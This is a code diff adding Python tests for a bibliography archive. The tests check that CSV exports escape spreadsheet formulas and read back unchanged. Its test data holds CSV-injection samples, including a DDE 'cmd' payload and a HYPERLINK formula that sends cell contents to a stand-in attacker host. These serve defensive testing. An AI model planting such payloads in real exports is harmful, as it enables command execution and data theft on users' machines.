@@ -13,9 +13,11 @@ from pathlib import Path
 import bibtexparser
 import pytest
 import rispy
+from hypothesis import given
+from hypothesis import strategies as st
 
 from archive.bibliography import written
-from archive.bibliography.library import library
+from archive.bibliography.library import guarded, library, unguarded
 from archive.bibliography.words import one_line
 from archive.index import read
 from archive.model import Entry
@@ -203,3 +205,60 @@ def test_a_part_of_it_goes_out(warm: Tools, tmp_path: Path) -> None:
     assert keys(collection="c", tag="x") == {"One"}
     with closing(sqlite3.connect(held.archive.index)) as connection:
         assert connection.execute("SELECT count(*) FROM entries").fetchone() == (3,)
+
+
+ODD = (
+    "=cmd|' /C calc'!A0",
+    "+1 (555)",
+    "-1",
+    "@SUM(A1)",
+    " \t=1",
+    "\u00a0=1",
+    "a\n=1",
+    "'=1",
+    "''-x",
+    "\uff1d1",
+)
+PLAIN = ("", "a=b", "it's", "'quoted'", "a - b", "1-2", "'", "a\n\nb")
+
+
+@pytest.mark.parametrize("cell", [*ODD, *PLAIN])
+def test_no_line_of_a_cell_is_a_formula_and_each_comes_back(cell: str) -> None:
+    kept = guarded(cell)
+    assert not any(line.strip()[:1] in tuple("=+-@\uff1d") for line in kept.split("\n") if line.strip())
+    assert unguarded(kept) == cell and (kept == cell) == (cell in PLAIN)
+
+
+@given(st.text(alphabet="'=+-@ \t\n\ra\u00a0\uff0b"))
+def test_whatever_a_cell_holds_comes_back(cell: str) -> None:
+    assert unguarded(guarded(cell)) == cell
+
+
+def test_a_spreadsheet_computes_nothing_of_an_export(warm: Tools, tmp_path: Path) -> None:
+    """Titles are what pages call themselves: their makers would choose what an editor's computer runs."""
+    heads = "title,author,url,notes,tags\r\n"
+    rows = (
+        """"=HYPERLINK(""https://evil.example/?""&A1)","+Doe, Jane",https://a.example/,"- one\n@two",-3\r\n"""
+        "'=a quoted title,'Doe,https://b.example/,'note,\r\n"
+    )
+    held = elsewhere(warm, tmp_path / "archive")
+    taken = read_library((heads + rows).encode(), "library.csv")
+    assert not taken.faults and [one.title for one in taken.entries][1] == "'=a quoted title", (
+        "not ours: as it is"
+    )
+    add(held, of_library(taken, ADA), ADA, capture=False)
+    out = exported(held, "csv")
+    cells = [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]
+    assert not [
+        cell for cell in cells for line in cell.split("\n") if line.strip()[:1] in tuple("=+-@") and line
+    ]
+    assert {one.title for one in read_library(out.encode(), "out.csv").entries} == {
+        '=HYPERLINK("https://evil.example/?"&A1)',
+        "'=a quoted title",
+    }
+    assert read_library(out.encode(), "out.csv").faults == ()
+    back = {json.dumps(said(one), default=sorted) for one in read_library(out.encode(), "out.csv").entries}
+    other = elsewhere(warm, tmp_path / "other")
+    add(other, of_library(read_library(out.encode(), "out.csv"), ADA), ADA, capture=False)
+    again = read_library(exported(other, "csv").encode(), "again.csv").entries
+    assert {json.dumps(said(one), default=sorted) for one in again} == back
